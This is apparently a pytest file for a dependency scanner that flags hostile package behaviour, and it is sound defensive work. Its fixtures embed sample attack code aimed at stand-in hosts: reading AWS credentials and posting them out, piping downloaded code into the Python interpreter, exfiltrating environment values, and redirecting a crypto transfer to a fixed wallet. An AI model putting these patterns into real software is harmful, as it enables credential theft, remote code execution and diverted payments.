"""Attributes set in branches, code fed to an interpreter, arguments handed on, payees, and orders to agents."""

from __future__ import annotations

import time

import pytest

from depscan.facts.fact import Fact
from depscan.facts.python import read_python_text
from depscan.facts.python.payees import read_payees
from depscan.facts.python.prune import aliases, prune
from depscan.facts.python.tool_text import read_tool_text
from depscan.facts.sink import Sink

HOST = "https://collect.example.invalid/a"
PAYEE = "0x1111222233334444555566667777888899990000"


def _facts(text: str) -> list[Fact]:
    sink = Sink()
    read_python_text(text, path="a.py", line=0, when="import", layer=(), sink=sink)
    return sink.facts


def _payees(text: str) -> list[Fact]:
    sink = Sink()
    read_payees(text.encode(), "a.py", (), sink)
    return sink.facts


BRANCH = """
import os, requests
class A:
    def __init__(self):
        if os.environ.get("X") is not None:
            self.part = os.environ.get("X")
        else:
            self.part = "none"
        requests.get("https://collect.example.invalid/" + self.part)
A()
"""


def test_an_attribute_set_in_one_branch_survives_the_other() -> None:
    facts = _facts(BRANCH)
    sent = [f for f in facts if f.what == "net.send"]
    assert [facts[i].what for f in sent for i in f.sources] == ["env.read"]


def test_the_second_branch_starts_with_the_attribute_as_it_was() -> None:
    text = "class A: pass\na = A()\na.x = 'https://one.example.invalid/'\n"
    text += "if unknown():\n    a.x = 'https://two.example.invalid/'\nelse:\n    requests.get(a.x)\nrequests.post(a.x)"
    facts = [f for f in _facts("import requests\n" + text) if f.what.startswith("net.")]
    assert facts[0].values == ("https://one.example.invalid/",)
    assert set(facts[-1].values) == {"https://one.example.invalid/", "https://two.example.invalid/"}


@pytest.mark.parametrize("method", ["stdin.write(code)", "communicate(code)", "communicate(input=code)"])
def test_what_is_fed_to_an_interpreter_is_evaluated(method: str) -> None:
    text = f"import subprocess, sys, requests\ncode = requests.get('{HOST}').content\n"
    text += f"p = subprocess.Popen([sys.executable, '-'], stdin=subprocess.PIPE)\np.{method}"
    facts = _facts(text)
    evaluated = [f for f in facts if f.what == "code.eval"]
    assert [facts[i].what for f in evaluated for i in f.sources] == ["net.download"]


def test_what_is_fed_to_another_program_is_not_code() -> None:
    text = "import subprocess\np = subprocess.Popen(['gzip'], stdin=subprocess.PIPE)\np.stdin.write(b'x')"
    assert "code.eval" not in {f.what for f in _facts(text)}


def test_a_parsed_configuration_carries_the_file_it_was_read_from() -> None:
    text = "import configparser, requests\nc = configparser.ConfigParser()\nc.read('/home/x/.aws/credentials')\n"
    text += f"requests.post('{HOST}', data=c.get('default', 'key'))"
    facts = _facts(text)
    assert [facts[i].what for f in facts if f.what == "net.send" for i in f.sources] == ["file.read"]


@pytest.mark.parametrize(
    "body",
    [
        f"requests.post('{HOST}', data=data)",
        f"answer = requests.get('{HOST}?' + data)\n    return None",
        f"answer = requests.post('{HOST}', json=[data])\n    answer.raise_for_status()",
    ],
)
def test_an_argument_whose_answer_nobody_reads_is_handed_on(body: str) -> None:
    assert "argument.sent" in {f.what for f in _facts(f"import requests\ndef f(data):\n    {body}\n")}


@pytest.mark.parametrize(
    "body",
    [
        f"return requests.post('{HOST}', data=data)",
        f"answer = requests.get('{HOST}?' + data)\n    return answer.json()",
        "requests.post(data)",
        f"requests.post('{HOST}')",
    ],
)
def test_an_answer_that_is_used_or_a_host_of_the_caller_hands_nothing_on(body: str) -> None:
    assert "argument.sent" not in {f.what for f in _facts(f"import requests\ndef f(data):\n    {body}\n")}


def test_a_payee_beside_the_one_the_caller_names_is_told() -> None:
    found = _payees(f"def pay(chain, dest, n):\n    chain.check(dest)\n    return chain.transfer(to='{PAYEE}', n=n)\n")
    assert [(f.what, f.when, f.line, f.values) for f in found] == [("money.sent", "call", 3, ("instead", PAYEE))]


@pytest.mark.parametrize(
    "text",
    [
        f"def donate(chain, n):\n    return chain.transfer(to='{PAYEE}', n=n)\n",
        f'def pay(chain, to, n):\n    """Pay.\n\n    >>> pay(c, to="{PAYEE}", n=1)\n    """\n    chain.transfer(to, n)\n',
        f"def pay(chain, to, n):\n    # transfer(to='{PAYEE}')\n    chain.transfer(to, n)\n",
        f"def burn(chain, to, n):\n    chain.transfer(to='0x{'0' * 40}', n=n)\n",
    ],
)
def test_a_fixed_payee_nobody_was_promised_to_replace_is_not_told(text: str) -> None:
    assert _payees(text) == []


def test_looking_for_payees_and_orders_ends_on_hostile_text() -> None:
    sink = Sink()
    data = b"transfer tool mcp </" + b"def f(to,\n" * 60_000 + b"'to':'" * 40_000 + b"<important>" * 20_000
    before = time.process_time()
    read_payees(data, "a.py", (), sink)
    read_tool_text(data, "a.py", (), sink)
    assert time.process_time() - before < 5
    assert sink.facts == []


def test_a_name_bound_to_exec_keeps_the_function_that_uses_it() -> None:
    pad = "".join(f"def f{i}(a):\n    return a + {i}\n\n" for i in range(300))
    shorter, _ = prune(f"{pad}run = exec\n\ndef check():\n    text = 'x'\n    run(text)\n")
    assert "run(text)" in shorter
    assert aliases("a = execute\nb = exec\n") == ["b"]


def test_the_facts_of_one_line_leave_room_for_the_next() -> None:
    sink = Sink()
    for i in range(700):
        sink.add(Fact("file.write", "call", "a.py", 3, "open", (f"{i}.jpg",), text="open(name)"))
    assert sink.add(Fact("file.write", "call", "a.py", 9, "open", ("last.py",), text="open('last.py')")) >= 0
